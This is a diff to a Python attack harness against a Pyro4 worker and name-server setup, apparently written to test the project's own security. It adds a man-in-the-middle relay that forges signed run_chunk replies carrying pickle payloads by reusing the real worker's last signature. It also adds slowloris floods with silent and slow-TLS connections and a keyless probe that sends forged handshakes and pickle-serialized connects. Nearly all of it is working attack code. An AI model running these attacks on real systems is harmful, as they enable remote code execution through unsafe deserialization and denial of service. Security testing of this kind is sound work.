@@ -8,15 +8,22 @@ it knows no secret but what it can steal (and it tries). Subcommands::
         call a worker's methods with pickle payloads: Pyro4's pickle serializer
         (in the handshake and in the arguments), marshal carrying pickle bytes in
         ``run_chunk``, no key, and every key it can steal
-    fake-server --port P --mode MODE --markers DIR [--serves NAME] [--lifetime S]
+    fake-server --port P --mode MODE --markers DIR [--serves NAME] [--lifetime S] [--upstream PORT]
         a keyless Pyro4 "worker" or "name server" that answers with payloads
-        (MODE: handshake, refusal, result, embedded; see ``_FakeConnection``)
+        (MODE: handshake, refusal, result, embedded, relay; see ``_FakeConnection``
+        and ``_Relay``: relay passes everything to the real worker at ``--upstream``
+        but answers ``run_chunk`` itself, with a payload)
     ns-attack NS NAME EVIL_URI [--steal PATH]...
         overwrite, remove or add names at a name server, with no key and stolen keys
-    replay HOST:PORT FILE...
+    replay HOST:PORT FILE... [--look-for TEXT]...
         send each recorded connection's bytes again, byte for byte, on a connection of its own
-    flood HOST:PORT [--slow N] [--interval S] [--huge N] [--frame-bytes B] [--duration S]
-        slowloris connections and frames announcing a huge size, until SIGTERM
+        (and say whether what came back holds each TEXT)
+    flood HOST:PORT [--slow N] [--silent N] [--tls-slow N] [--interval S] [--huge N] [--frame-bytes B]
+          [--duration S]
+        slowloris connections (Pyro4 bytes, nothing at all, or a TLS ClientHello, a byte
+        every interval) and frames announcing a huge size, until SIGTERM
+    probe HOST:PORT OBJECT --save FILE
+        talk to a server without the key every way a peer can, and save all it answers
 
 Each outcome is one JSON line on stdout: ``{"kind", "name", "ok", "detail"}``. A
 line of kind ``attack`` with ``ok`` true means that attack got through; ``info``
@@ -36,6 +43,7 @@ import pickle
 import select
 import signal
 import socket
+import ssl
 import struct
 import sys
 import threading
@@ -305,6 +313,76 @@ class _FakeConnection:
         return Message(Pyro4.message.MSG_RESULT, marshal.dumps(answers.get(method)), MARSHAL_ID, 0, seq)
 
 
+class _Relay:
+    """One victim connection passed on to the real worker at ``upstream``, message by
+    message, so that the victim authenticates with the real worker and checks it;
+    but a ``run_chunk`` call is not passed on: it is answered here, with
+    ``("ok", <pickle bytes of a payload>)`` signed with the last signature the real
+    worker sent (the attacker has no key to sign it with)."""
+
+    def __init__(self, sock: socket.socket, upstream: int, markers: str) -> None:
+        self.victim, self.markers = sock, markers
+        self.upstream = socket.create_connection(("127.0.0.1", upstream), timeout=CALL_TIMEOUT)
+        self.proof = b"\0" * 32
+
+    def serve(self) -> None:
+        with contextlib.closing(self.victim), contextlib.closing(self.upstream):
+            self.victim.settimeout(CALL_TIMEOUT)
+            while True:
+                message = _read_message(self.victim)
+                if message is None:
+                    return
+                header, data, raw = message
+                if self._is_run_chunk(header, data):
+                    report("info", "forged run_chunk reply", True, f"seq {header.seq}")
+                    answer = (("ok", payload_bytes(self.markers, "relay-run_chunk")), self.proof)
+                    forged = Pyro4.message.Message(Pyro4.message.MSG_RESULT, marshal.dumps(answer),
+                                                   MARSHAL_ID, 0, header.seq)
+                    self.victim.sendall(forged.to_bytes())
+                    continue
+                self.upstream.sendall(raw)
+                reply = _read_message(self.upstream)
+                if reply is None:
+                    return
+                self._remember(reply[0], reply[1])
+                self.victim.sendall(reply[2])
+
+    @staticmethod
+    def _is_run_chunk(header: Any, data: bytes) -> bool:
+        if header.type != Pyro4.message.MSG_INVOKE or header.serializer_id != MARSHAL_ID:
+            return False
+        try:
+            _, method, args, _ = marshal.loads(data)
+        except Exception:
+            return False
+        return method == "call" and bool(args) and args[0] == "run_chunk"
+
+    def _remember(self, header: Any, data: bytes) -> None:
+        """Keep the real worker's last signature, to sign the forged reply with."""
+        if header.type != Pyro4.message.MSG_RESULT or header.serializer_id != MARSHAL_ID:
+            return
+        with contextlib.suppress(Exception):
+            answer = marshal.loads(data)
+            if isinstance(answer, (list, tuple)) and len(answer) == 2 and isinstance(answer[1], bytes):
+                self.proof = answer[1]
+
+
+def _read_message(sock: socket.socket) -> Optional[tuple[Any, bytes, bytes]]:
+    """One Pyro4 message from ``sock``: its header (a ``Message`` without data), its data,
+    and all its bytes as they came; ``None`` when the peer closed."""
+    reader = _FakeConnection(sock, "", "", "")
+    header = reader._read(Pyro4.message.Message.header_size)
+    if header is None:
+        return None
+    message = Pyro4.message.Message.from_header(header)
+    if message.annotations_size + message.data_size > 64 << 20:
+        return None
+    rest = reader._read(message.annotations_size + message.data_size)
+    if rest is None:
+        return None
+    return message, rest[message.annotations_size:], header + rest
+
+
 def cmd_fake_server(args: argparse.Namespace) -> int:
     server = socket.socket()
     server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
@@ -318,7 +396,15 @@ def cmd_fake_server(args: argparse.Namespace) -> int:
             sock, _ = server.accept()
         except socket.timeout:
             continue
-        connection = _FakeConnection(sock, args.mode, args.markers, args.serves)
+        if args.mode == "relay":
+            try:
+                connection: Any = _Relay(sock, args.upstream, args.markers)
+            except OSError as exc:
+                log(f"cannot reach the real worker: {exc}")
+                sock.close()
+                continue
+        else:
+            connection = _FakeConnection(sock, args.mode, args.markers, args.serves)
         threading.Thread(target=_logged(connection.serve), daemon=True).start()
     return 0
 
@@ -362,7 +448,7 @@ def cmd_replay(args: argparse.Namespace) -> int:
     host, _, port = args.address.rpartition(":")
     for path in args.files:
         data = Path(path).read_bytes()
-        received, closed = 0, False
+        received, closed, got = 0, False, bytearray()
         try:
             with socket.create_connection((host, int(port)), timeout=CALL_TIMEOUT) as sock:
                 sock.sendall(data)
@@ -377,11 +463,13 @@ def cmd_replay(args: argparse.Namespace) -> int:
                         closed = True
                         break
                     received += len(part)
+                    got += part
         except OSError as exc:
             report("info", f"replay {Path(path).name}", False, f"{type(exc).__name__}: {exc}")
             continue
+        holds = "".join(f", holds {text!r}: {text.encode() in got}" for text in args.look_for)
         report("info", f"replay {Path(path).name}", True,
-               f"sent {len(data)} bytes, got {received} back, closed by the worker: {closed}")
+               f"sent {len(data)} bytes, got {received} back, closed by the worker: {closed}{holds}")
     return 0
 
 
@@ -398,8 +486,22 @@ def frame_header(data_size: int, serializer_id: int = MARSHAL_ID, seq: int = 0) 
                        data_size, serializer_id, annotations, 0, checksum)
 
 
+def client_hello() -> bytes:
+    """The first bytes a TLS client sends: a ClientHello, as Python's ssl makes it."""
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    tls = context.wrap_bio(incoming, outgoing, server_hostname="worker")
+    with contextlib.suppress(ssl.SSLWantReadError):
+        tls.do_handshake()
+    return outgoing.read()
+
+
 class _Slot:
-    """One flooding connection: ``slow`` (a byte every interval) or ``huge`` (frames at full speed)."""
+    """One flooding connection: ``slow`` (a byte of Pyro4 every interval), ``tls`` (a byte of
+    a TLS ClientHello every interval, then nothing), ``silent`` (never a byte) or ``huge``
+    (frames at full speed)."""
 
     def __init__(self, kind: str, offset: float = 0.0) -> None:
         self.kind = kind
@@ -423,8 +525,11 @@ class _Flood:
         self.slow_stream = frame_header(1 << 20) + b"\0" * (1 << 20)
         self.huge_frame = len(frame_header(0)) + args.frame_bytes
         self.huge_header = frame_header(args.frame_bytes)
+        self.client_hello = client_hello()
         slow = [_Slot("slow", args.interval * number / max(1, args.slow)) for number in range(args.slow)]
-        self.slots = [_Slot("huge") for _ in range(args.huge)] + slow
+        tls = [_Slot("tls", args.interval * n / max(1, args.tls_slow)) for n in range(args.tls_slow)]
+        silent = [_Slot("silent") for _ in range(args.silent)]
+        self.slots = [_Slot("huge") for _ in range(args.huge)] + slow + tls + silent
         self.stats = {"connected": 0, "connect_errors": 0, "closed_by_server": 0, "slow_bytes": 0,
                       "huge_bytes": 0, "huge_frames": 0}
         self.zeros = memoryview(b"\0" * (1 << 18))
@@ -466,7 +571,7 @@ class _Flood:
         reading = [sock for sock, slot in live.items() if slot.connected]
         writing = [sock for sock, slot in live.items()
                    if not slot.connected or (slot.kind == "huge" and slot.sent < self.huge_frame)]
-        readable, writable, _ = select.select(reading, writing, [], wait)
+        readable, writable = _wait(reading, writing, wait)
         now = time.monotonic()
         for sock in readable:  # what the server says is dropped; a hang-up is noted
             try:
@@ -488,12 +593,19 @@ class _Flood:
             elif slot.kind == "huge":
                 self._push(slot, now)
         for slot in self.slots:
-            if slot.kind == "slow" and slot.connected and now >= slot.due:
+            if slot.kind in ("slow", "tls") and slot.connected and now >= slot.due:
                 self._drip(slot, now)
 
     def _drip(self, slot: _Slot, now: float) -> None:
+        if slot.kind == "tls":
+            if slot.sent >= len(self.client_hello):
+                slot.due = now + self.interval
+                return
+            byte = self.client_hello[slot.sent:slot.sent + 1]
+        else:
+            byte = self.slow_stream[slot.sent % len(self.slow_stream):][:1]
         try:
-            slot.sock.send(self.slow_stream[slot.sent % len(self.slow_stream):][:1])
+            slot.sock.send(byte)
         except BlockingIOError:
             return
         except OSError:
@@ -524,6 +636,29 @@ class _Flood:
                 self.stats["huge_frames"] += 1
 
 
+def _wait(reading: list[socket.socket], writing: list[socket.socket],
+          wait: float) -> tuple[list[socket.socket], list[socket.socket]]:
+    """``select.select`` for any number of sockets (``select`` stops at 1,024 file numbers)."""
+    poller = select.poll()
+    by_fd = {}
+    for sock in reading:
+        poller.register(sock, select.POLLIN)
+        by_fd[sock.fileno()] = sock
+    for sock in writing:
+        if sock.fileno() in by_fd:
+            poller.modify(sock, select.POLLIN | select.POLLOUT)
+        else:
+            poller.register(sock, select.POLLOUT)
+            by_fd[sock.fileno()] = sock
+    readable, writable = [], []
+    for fd, events in poller.poll(wait * 1000):
+        if events & (select.POLLIN | select.POLLHUP | select.POLLERR):
+            readable.append(by_fd[fd])
+        if events & select.POLLOUT:
+            writable.append(by_fd[fd])
+    return readable, writable
+
+
 def cmd_flood(args: argparse.Namespace) -> int:
     host, _, port = args.address.rpartition(":")
     stop = threading.Event()
@@ -540,6 +675,75 @@ def cmd_flood(args: argparse.Namespace) -> int:
     return 0
 
 
+# --- probe: everything a server answers a peer without the key ----------------------------
+
+
+def _message(kind: int, body: Any, seq: int = 0, flags: int = 0, key: Optional[bytes] = None,
+             serializer: int = MARSHAL_ID) -> bytes:
+    data = body if isinstance(body, bytes) else marshal.dumps(body)
+    return Pyro4.message.Message(kind, data, serializer, flags, seq, {}, key).to_bytes()
+
+
+def _call(obj: str, method: str, args: list[Any], seq: int) -> bytes:
+    return _message(Pyro4.message.MSG_INVOKE, (obj, method, args, {}), seq)
+
+
+def _connect(obj: str, flags: int = 0, key: Optional[bytes] = None, serializer: int = MARSHAL_ID) -> bytes:
+    body = {"handshake": "probe", "object": obj}
+    data = pickle.dumps(body) if serializer == PICKLE_ID else marshal.dumps(body)
+    return _message(Pyro4.message.MSG_CONNECT, data, flags=flags, key=key, serializer=serializer)
+
+
+def _exchanges(obj: str) -> dict[str, list[bytes]]:
+    """What a keyless peer sends, connection by connection: every message a server may answer."""
+    mine = b"attacker-nonce16"
+    auth = _call(obj, "auth", [mine, b"\0" * 32], 1)
+    daemon = "Pyro.Daemon"
+    return {
+        "connect-then-wrong-mac": [_connect(obj), auth],
+        "connect-then-empty-mac": [_connect(obj), _call(obj, "auth", [mine, b""], 1)],
+        "connect-then-two-auths": [_connect(obj), auth, _call(obj, "auth", [mine, b"\1" * 32], 2)],
+        "connect-signed-with-a-guess": [_connect(obj, key=b"a guess at the key!!")],
+        "connect-with-metadata": [_connect(obj, flags=Pyro4.message.FLAGS_META_ON_CONNECT)],
+        "connect-in-pickle": [_connect(obj, serializer=PICKLE_ID)],
+        "call-before-auth": [_connect(obj), _call(obj, "call", ["hello", 1, b"\0" * 32, []], 1)],
+        "unknown-method": [_connect(obj), _call(obj, "nothing", [], 1)],
+        "ping": [_connect(obj), _message(Pyro4.message.MSG_PING, b"ping", 1)],
+        "daemon-calls": [_connect(daemon), _call(daemon, "registered", [], 1),
+                         _call(daemon, "get_metadata", [obj], 2), _call(daemon, "ping", [], 3)],
+        "no-connect": [auth],
+        "garbage": [b"GET / HTTP/1.0\r\n\r\n"],
+    }
+
+
+def cmd_probe(args: argparse.Namespace) -> int:
+    """Send each exchange on a connection of its own, one message at a time, and keep
+    every byte that comes back (until the server closes, or is silent for 2 s)."""
+    host, _, port = args.address.rpartition(":")
+    saved = []
+    for name, messages in _exchanges(args.object).items():
+        got = bytearray()
+        try:
+            with socket.create_connection((host, int(port)), timeout=CALL_TIMEOUT) as sock:
+                sock.settimeout(2.0)
+                for message in messages:
+                    sock.sendall(message)
+                    with contextlib.suppress(socket.timeout):
+                        while True:
+                            part = sock.recv(1 << 16)
+                            if not part:
+                                break
+                            got += part
+                            if len(part) < (1 << 16):
+                                break
+        except OSError as exc:
+            log(f"{name}: {type(exc).__name__}: {exc}")
+        saved.append({"exchange": name, "received": bytes(got).hex()})
+        report("info", f"probe {name}", True, f"got {len(got)} bytes")
+    Path(args.save).write_text(json.dumps(saved))
+    return 0
+
+
 # --- command line ------------------------------------------------------------------------
 
 
@@ -553,7 +757,9 @@ def _parser() -> argparse.ArgumentParser:
     call.add_argument("--steal", action="append", default=[])
     fake = commands.add_parser("fake-server")
     fake.add_argument("--port", type=int, required=True)
-    fake.add_argument("--mode", choices=("handshake", "refusal", "result", "embedded"), required=True)
+    modes = ("handshake", "refusal", "result", "embedded", "relay")
+    fake.add_argument("--mode", choices=modes, required=True)
+    fake.add_argument("--upstream", type=int, help="relay: the port of the real worker")
     fake.add_argument("--markers", required=True)
     fake.add_argument("--serves", default="Napper")
     fake.add_argument("--lifetime", type=float, default=300.0)
@@ -567,18 +773,25 @@ def _parser() -> argparse.ArgumentParser:
     replay.add_argument("files", nargs="+")
     replay.add_argument("--idle", type=float, default=3.0, help="stop reading after this long without data")
     replay.add_argument("--patience", type=float, default=20.0, help="stop reading after this long")
+    replay.add_argument("--look-for", action="append", default=[], help="say whether the answers hold this")
     flood = commands.add_parser("flood")
     flood.add_argument("address")
     flood.add_argument("--slow", type=int, default=300)
+    flood.add_argument("--silent", type=int, default=0, help="connections that never send a byte")
+    flood.add_argument("--tls-slow", type=int, default=0, help="connections sending a ClientHello slowly")
     flood.add_argument("--interval", type=float, default=3.0)
     flood.add_argument("--huge", type=int, default=2)
     flood.add_argument("--frame-bytes", type=int, default=400_000_000)
     flood.add_argument("--duration", type=float, default=150.0)
+    probe = commands.add_parser("probe")
+    probe.add_argument("address")
+    probe.add_argument("object")
+    probe.add_argument("--save", required=True)
     return parser
 
 
 _COMMANDS = {"call": cmd_call, "fake-server": cmd_fake_server, "ns-attack": cmd_ns_attack,
-             "replay": cmd_replay, "flood": cmd_flood}
+             "replay": cmd_replay, "flood": cmd_flood, "probe": cmd_probe}
 
 
 def main(argv: Optional[list[str]] = None) -> int:
